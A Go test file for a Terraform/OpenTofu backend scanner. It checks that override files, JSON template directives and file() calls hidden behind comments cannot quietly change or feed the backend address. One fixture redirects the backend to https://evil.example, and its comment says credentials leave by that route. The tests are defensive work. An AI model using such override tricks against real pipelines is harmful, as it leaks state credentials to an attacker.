package scan

import (
	"strings"
	"testing"
)

// backendOfBaseAndMore reports the Backend of base and of base with more files.
func backendOfBaseAndMore(t *testing.T, base, more map[string]string) (want, got string) {
	t.Helper()
	want, err := backendOf(t, base)
	if err != nil {
		t.Fatal(err)
	}
	m := map[string]string{}
	for k, v := range base {
		m[k] = v
	}
	for k, v := range more {
		m[k] = v
	}
	got, err = backendOf(t, m)
	if err != nil {
		return want, "error: " + err.Error()
	}
	return want, got
}

// Once, OpenTofu merges override files after the primary files, and a local
// an override file defines replaces the primary's. Backend reads files in
// name order and keeps the last definition of each local, so an override file
// that sorts before the primary (a_override.tf < locals.tf) is forgotten:
// Backend is unchanged while OpenTofu's backend address is the override's.
// (server TestAPullRequestCannotRedirectTheBackendThroughAnOverrideLocal
// shows the credentials leave.)
func TestBackendKeepsALocalAnOverrideFileRedefines(t *testing.T) {
	want, got := backendOfBaseAndMore(t, map[string]string{
		"backend.tf": "terraform {\n  backend \"http\" {\n    address = local.addr\n  }\n}\n",
		"locals.tf":  "locals {\n  addr = \"https://state.example\"\n}\n",
	}, map[string]string{
		"a_override.tf": "locals {\n  addr = \"https://evil.example\"\n}\n",
	})
	if got == want {
		t.Fatalf("an override file redefining the backend's local left Backend unchanged:\n%s", got)
	}
}

// Once, a JSON backend block is taken to reference variables only when its
// file holds "${"; a template directive ("%{ if var.env ... }") reads a
// variable without it, so its .tfvars value is not pinned.
func TestBackendPinsAJSONTemplateDirective(t *testing.T) {
	want, got := backendOfBaseAndMore(t, map[string]string{
		"backend.tf.json": `{"terraform": {"backend": {"http": {"address": "https://state.example/%{ if var.env == \"prod\" }prod%{ else }dev%{ endif }"}}}}`,
		"variables.tf":    "variable \"env\" {\n  default = \"dev\"\n}\n",
	}, map[string]string{
		"terraform.tfvars": "env = \"prod\"\n",
	})
	if got == want {
		t.Fatalf("a .tfvars value for the variable a JSON backend's template directive reads left Backend unchanged:\n%s", got)
	}
}

// Once, the file function refusal is a regular expression, and HCL allows a
// comment between a function's name and its arguments.
func TestBackendFindsAFileFunctionBehindAComment(t *testing.T) {
	for _, call := range []string{`file/**/("addr.txt")`, `templatefile /* x */ ("a.tpl", {})`} {
		_, err := backendOf(t, map[string]string{
			"backend.tf": "terraform {\n  backend \"http\" {\n    address = local.addr\n  }\n}\n",
			"locals.tf":  "locals {\n  addr = " + call + "\n}\n",
		})
		if err == nil || !strings.Contains(err.Error(), "reads a file") {
			t.Errorf("%s: a file read in the backend's local was not refused (%v)", call, err)
		}
	}
}
